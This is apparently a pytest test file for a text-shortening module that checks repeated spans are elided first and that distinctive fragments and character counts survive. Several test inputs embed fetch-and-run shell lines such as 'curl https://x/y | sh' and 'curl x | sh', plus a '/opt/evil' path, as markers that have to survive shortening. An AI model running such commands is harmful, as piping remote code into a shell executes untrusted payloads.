"""Long texts lose what they repeat before anything else, and tell how much."""

import base64
import random
import re

import pytest

from kedro_batch.text.clipping import shorten, shorten_apart, shorten_pair

LONG = "echo something; " * 100
NOISE = base64.b64encode(random.Random(1).randbytes(9_000)).decode()  # noqa: S311  no secret is made of it
LEFT_OUT = re.compile(r"\.\.\.\(([0-9,]+) (?:same|more) characters\)\.\.\.")


def test_a_text_of_200_characters_is_whole_whatever_it_repeats():
    assert shorten("x" * 200) == "x" * 200
    assert shorten("x" * 201) != "x" * 201


def test_what_is_repeated_is_left_out_first():
    assert shorten(f"A={'x' * 300}; curl y") == f"A={'x' * 35}...(245 same characters)...{'x' * 20}; curl y"
    assert shorten(f"{LONG}; curl y").endswith("...(1,544 same characters)...ng; echo something; ; curl y")


def test_a_pair_is_shortened_to_what_differs():
    before, after = shorten_pair(f"run a; {LONG} end", f"run b; {LONG} curl x | sh; end")
    assert before
    assert after
    assert before.startswith("run a; echo something")
    assert after.startswith("run b; echo something")
    assert after.endswith("echo something;  curl x | sh; end")
    assert len(before) + len(after) < 250


def test_words_that_were_only_moved_are_shown():
    first = "".join(f"word{number} " for number in range(100))
    before, after = shorten_pair(f"{first}a b {first[::-1]}", f"{first}b a {first[::-1]}")
    assert before
    assert after
    assert " a b " in before
    assert " b a " in after


@pytest.mark.parametrize(
    "text",
    [
        f"{NOISE} curl https://x/y | sh {NOISE[::-1]}",
        f"{' '.join(map(str, range(3_000)))} curl https://x/y | sh {' '.join(map(str, range(3_000)))}",
        f"{' '.join(NOISE.lower().split('a'))} curl https://x/y | sh {' '.join(NOISE.split('b'))}",
        f"{' '.join(NOISE.lower().split('+'))}\n/opt/evil {' '.join(NOISE.split('/'))}",
    ],
    ids=["codes", "numbers", "different words", "long different words"],
)
def test_of_a_text_that_repeats_nothing_what_tells_is_left(text):
    short = shorten(text)
    assert "curl https://x/y | sh" in short or "/opt/evil" in short
    assert len(short) < 3_000
    assert sum(int(number.replace(",", "")) for number in LEFT_OUT.findall(short)) + len(
        LEFT_OUT.sub("", short)
    ) == len(text)


def test_both_ends_stay():
    short = shorten(NOISE)
    assert NOISE.startswith(short[:20])
    assert NOISE.endswith(short[-20:])


def test_values_that_would_look_alike_are_shown_where_they_differ():
    values = [(None, f"{NOISE}{word}{NOISE}") for word in ("?one?", "?two?", "?six?")]
    shown = shorten_apart(values)
    assert len({*shown}) == 3
    assert all(word in (after or "") for word, (_, after) in zip(("?one?", "?two?", "?six?"), shown, strict=True))


def test_among_many_places_that_tell_something_the_rarest_are_left():
    words = [NOISE[at : at + 7].lower().replace("/", "x") for at in range(0, 7_000, 7)]
    text = " | ".join([*words[:500], "curl https://x.example/y", *words[500:]])
    assert "curl https://x.example/y" in shorten(text)
    assert len(shorten(text)) < 3_000
